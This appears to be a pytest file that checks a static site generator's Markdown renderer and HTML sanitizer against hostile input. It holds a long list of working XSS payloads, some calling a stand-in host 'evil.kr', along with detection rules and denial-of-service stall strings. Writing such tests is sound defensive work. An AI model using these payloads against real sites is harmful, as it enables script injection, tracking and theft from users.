"""Imported text is hostile until proven otherwise: nothing in it may run, load from elsewhere, or
stall the build.
"""

import re
import time
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from ssg.markup.markdown import render
from ssg.markup.sanitize import clean

TAGS = frozenset(
    "a abbr b bdi bdo blockquote br caption cite code col colgroup dd del details dfn div dl dt em figcaption figure h1 h2 "
    "h3 h4 h5 h6 hr i img input ins kbd li mark ol p picture pre q rp rt ruby s samp section small source span strong sub summary sup "
    "table tbody td tfoot th thead time tr u ul var wbr".split()
)
ATTRIBUTES = frozenset(
    "alt aria-label checked cite class colspan data-end data-line datetime decoding dir disabled fetchpriority headers "
    "height href id lang loading open rel reversed role rowspan scope sizes span src srcset start tabindex title type value width".split()
)
SCHEME = re.compile(r"[\x00-\x20]*([a-z][a-z0-9+.-]*):")
SAFE_IDS = ("h-", "fn-", "fnref-", "user-")


class Audit(HTMLParser):
    """Notes what a page must not hold."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []
        self.feed(html)
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        """Every tag and attribute is on the list, addresses are harmless, ids are ours."""
        if tag not in TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            said = "".join((value or "").split()).lower()
            if name not in ATTRIBUTES:
                self.found.append(f"{tag} {name}")
            scheme = SCHEME.match(said)
            if (
                name in ("href", "src", "cite")
                and scheme
                and scheme[1] not in ("http", "https", "mailto", "tel")
            ):
                self.found.append(f"{tag} {name}={said}")
            if name == "src" and (scheme or said.startswith(("//", "\\\\", "/\\", "\\/"))):
                self.found.append(f"{tag} {name}={said}")
            if name == "srcset" and re.search(
                r"(?:^|[\s,])(?:[a-z][\w+.-]*:|[/\\]{2})", value or "", re.IGNORECASE
            ):
                self.found.append(f"{tag} {name}={value}")
            if name == "id" and not (value or "").startswith(SAFE_IDS):
                self.found.append(f"{tag} id={value}")

    def handle_comment(self, data: str) -> None:
        """No comments: they carry conditional code in old browsers."""
        self.found.append(f"<!--{data}")


PAYLOADS = [
    "<script>alert(1)</script>", "<ScRiPt src=//evil.kr/x.js></sCrIpT>", "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)>", "<svg><script>alert(1)</script></svg>", "<svg><a xlink:href=javascript:alert(1)><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math href=javascript:alert(1)>x</math>", "<style>*{background:url(//evil.kr)}</style>", "<p style='background:url(//evil.kr)'>x</p>",
    "<iframe src=javascript:alert(1)></iframe>", "<iframe srcdoc='<script>alert(1)</script>'></iframe>", "<object data=x></object>",
    "<embed src=x>", "<form action=//evil.kr><input name=q><button>x</button></form>", "<input autofocus onfocus=alert(1)>",
    "<a href=javascript:alert(1)>x</a>", "<a href='java\tscript:alert(1)'>x</a>", "<a href='&#106;avascript:alert(1)'>x</a>",
    "<a href='data:text/html,<script>alert(1)</script>'>x</a>", "<a href='vbscript:x'>x</a>", "<a href=' \x01javascript:alert(1)'>x</a>",
    "<base href=//evil.kr/>", "<meta http-equiv=refresh content='0;url=//evil.kr'>", "<link rel=stylesheet href=//evil.kr>",
    "<video src=x onerror=alert(1)></video>", "<audio controls src=//evil.kr/a.mp3>", "<img src=//evil.kr/pixel.gif>",
    "<img src='https://evil.kr/pixel.gif'>", "<img src='\\\\evil.kr/p'>", "<img src='/\\evil.kr/p'>", "<img srcset='//evil.kr/x 1x'>",
    "<img src='data:image/svg+xml,<svg onload=alert(1)>'>", "<div id=location name=cookie>x</div>", "<a id=querySelector name=body>x</a>",
    "<form id=x><input name=attributes></form>", "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<textarea></textarea><img src=x onerror=alert(1)>", "<title><img src=x onerror=alert(1)></title>", "<xmp><img src=x onerror=alert(1)></xmp>",
    "<template><script>alert(1)</script></template>", "<details ontoggle=alert(1) open><summary>x</summary></details>",
    "<select><template><img src=x onerror=alert(1)></template></select>", "<table><tr><td background=//evil.kr>x",
    "<!--[if IE]><script>alert(1)</script><![endif]-->", "<!--><img src=x onerror=alert(1)>-->", "<?xml-stylesheet href=x?>",
    "<![CDATA[<script>alert(1)</script>]]>", "<p title='x\"onmouseover=alert(1)'>x</p>", "<a href=x ping=//evil.kr>x</a>",
    "<a href=x target=_top download>x</a>", "<div contenteditable onpaste=alert(1)>x", "<marquee onstart=alert(1)>x</marquee>",
    "<b x:y onclick=alert(1)>x</b>", "<p/onclick=alert(1)>x", "<img/src=x/onerror=alert(1)>", "<<script>alert(1)//<</script>",
    "[x](javascript:alert(1))", "[x](JaVaScRiPt:alert(1))", "[x](<java\tscript:alert(1)>)", "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD4=)", "![x](data:image/svg+xml;base64,PHN2Zz4=)", "![x](javascript:alert(1))", "[x](vbscript:x)",
    "[x](file:///etc/passwd)", "[x](blob:x)", "<javascript:alert(1)>", "[x]: javascript:alert(1)\n\n[x]", '[x](/a "\'onclick=alert(1) \\"onclick=alert(1)")',
    '<picture><source srcset="/a.webp 1x, //e.example/b 2x"><img src=x></picture>', "<source srcset='a,https://e.example/b 2x' onerror=x>",
    '<img srcset="https://e.example/x 2x" src=/x>', "<source srcset=' javascript:alert(1) 1x'>", '![" onerror="alert(1)](x.png)', '![x](x.png "\\" onerror=\\"alert(1)")', '```"onclick="alert(1)\nx\n```', "``` <img/src=x/onerror=alert(1)>\nx\n```",
    "# <img src=x onerror=alert(1)>", "```html\n<img src=x onerror=alert(1)><script>alert(1)</script>\n```",
    "```python\nx = '<script>alert(1)</script>'\n```", "# \" onclick=alert(1) x=\"", "|<script>alert(1)</script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[^<script>]\n\n[^<script>]: <img src=x onerror=alert(1)>", "> [!NOTE]\n> <script>alert(1)</script>", "- [x] <img src=x onerror=alert(1)>",
    "<p data-line='1\" onclick=alert(1)'>x</p>", "<div class='a\" onclick=\"alert(1)'>x</div>", "<div role=alert tabindex=5 aria-label=x>x</div>",
    "<h1 id=h-x>x</h1><p id='h-\u00a0x'>y</p>", "{{ config }} {% include 'x' %} ${x}", "</article></main><script>alert(1)</script>",
]  # fmt: skip


@pytest.mark.parametrize("payload", PAYLOADS)
@pytest.mark.parametrize("mode", ["sanitize", "escape"])
def test_nothing_of_a_payload_stays_alive(payload: str, mode: str) -> None:
    texts = [
        payload,
        f"가 {payload} 나",
        f"- {payload}",
        f"<div>\n\n{payload}\n\n</div>",
        f"<b>{payload}",
    ]
    assert [Audit(render(text, raw_html=mode).html).found for text in texts] == [[]] * 5  # type: ignore[arg-type]


def test_a_scheme_hidden_by_control_characters_is_not_linked() -> None:
    text = "[x](<java\tscript:alert(1)>)"
    assert render(text).html == "<p>[x](&lt;java\tscript:alert(1)&gt;)</p>\n"


def test_the_audit_itself_sees_what_is_dangerous() -> None:
    raw = (
        "<script></script><p onclick=x id=body><a href='java\nscript:x'><img src=//e.kr><!-- c -->"
    )
    assert Audit(raw).found == [
        "<script>",
        "p onclick",
        "p id=body",
        "a href=javascript:x",
        "img src=//e.kr",
        "<!-- c ",
    ]


def test_harmless_html_stays() -> None:
    kept = (
        "<p><ruby>表<rp>(</rp><rt>표</rt><rp>)</rp></ruby> <kbd>a</kbd> <mark>b</mark> H<sub>2</sub> "
        '<time datetime="2026-11-23">c</time></p>\n<details open=""><summary>d</summary>e</details>\n'
        '<figure><img src="a.png" alt="f" width="3" height="4"><figcaption>g</figcaption></figure>\n'
    )
    assert render(kept.replace('=""', "")).html == kept


def test_raw_html_can_be_trusted_or_shown() -> None:
    text = "<b onclick=x>a</b>"
    assert (render(text, raw_html="allow").html, render(text, raw_html="escape").html) == (
        "<p><b onclick=x>a</b></p>\n",
        "<p>&lt;b onclick=x&gt;a&lt;/b&gt;</p>\n",
    )


PIECES = st.sampled_from(
    ["**", "*", "_", "~~", "`", "```", "\n", "\n\n", "> ", "- ", "1. ", "# ", "[", "]", "(", ")", "![", "<", ">", "\"", "'", "|", "|-|\n",
     "[^1]", "[^1]: ", "[!NOTE]\n", "[ ] ", ": ", "&", "&lt;", "&#0;", "\\", "    ", "\t", "한글", "은", "。", "<div>", "</div>", "<b ", "<!--", "-->",
     "<a href=", "<img src=", "javascript:", "data:", "onerror=", "style=", "script", "/", "//", "http://", "\x00", "\u2028", "\u202e", "😀", " id=", "x"]
)  # fmt: skip
MARKUP = st.lists(PIECES | st.text(st.characters(codec="utf-8"), max_size=4), max_size=30).map(
    "".join
)


@settings(max_examples=500, deadline=None, derandomize=True)
@given(MARKUP, st.booleans())
def test_any_text_renders_and_is_harmless(text: str, lines: bool) -> None:
    for mode in ("sanitize", "escape"):
        html = render(text, raw_html=mode, source_lines=lines).html
        assert Audit(html).found == []
        assert Audit(clean(html)).found == []


@settings(max_examples=300, deadline=None, derandomize=True)
@given(MARKUP)
def test_the_gate_changes_nothing_of_our_own_markup(text: str) -> None:
    html = render(text, raw_html="escape").html
    assert _events(clean(html)) == _events(html)


def _events(html: str) -> list[tuple[object, ...]]:
    """Tags with attributes, and texts, in order; `rel`, which the gate adds to every link, left
    out.
    """
    found: list[tuple[object, ...]] = []

    class Events(HTMLParser):
        def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
            found.append((tag, sorted((k, v) for k, v in attrs if k != "rel")))

        def handle_data(self, data: str) -> None:
            if found and found[-1][0] == "":
                data = str(found.pop()[1]) + data
            found.append(("", data.replace("\xa0", " ")))

    parser = Events(convert_charrefs=True)
    parser.feed(html)
    parser.close()
    return found


STALLS = {
    "brackets": "[" * 50_000, "stars": "*" * 50_000, "open stars": "*a " * 20_000, "strong": "**a" * 20_000, "quotes": ">" * 10_000,
    "nested lists": "- " * 5_000 + "a", "pictures": "![" * 30_000, "tags": "<a " * 20_000, "links": "a](" * 30_000, "angles": "[a](<b" * 10_000,
    "ticks": "".join("`" * n + " " for n in range(300)), "columns": "|a" * 20_000 + "\n" + "|-" * 20_000, "rows": "|a|b|\n|-|-|\n" + "|x\n" * 10_000,
    "headings": "# a\n" * 5_000, "footnotes": "[^1]" * 5_000 + "\n\n[^1]: x", "notes": "[^a]:" * 5_000, "comments": "<!--" * 20_000,
    "divs": "<div>" * 10_000, "definitions": "[a]: b\n" * 5_000 + "[a]" * 5_000, "deep lists": "\n".join("  " * n + "- a" for n in range(500)),
    "code": "```python\n" + 'f"{' * 9_000 + "\n```", "alerts": "> [!note]\n" * 3_000, "korean": '**한("' * 10_000, "tildes": "~~a " * 20_000,
}  # fmt: skip


@pytest.mark.parametrize("name", sorted(STALLS))
def test_pathological_text_ends_soon(name: str) -> None:
    start = time.process_time()
    render(STALLS[name])
    assert time.process_time() - start < 5
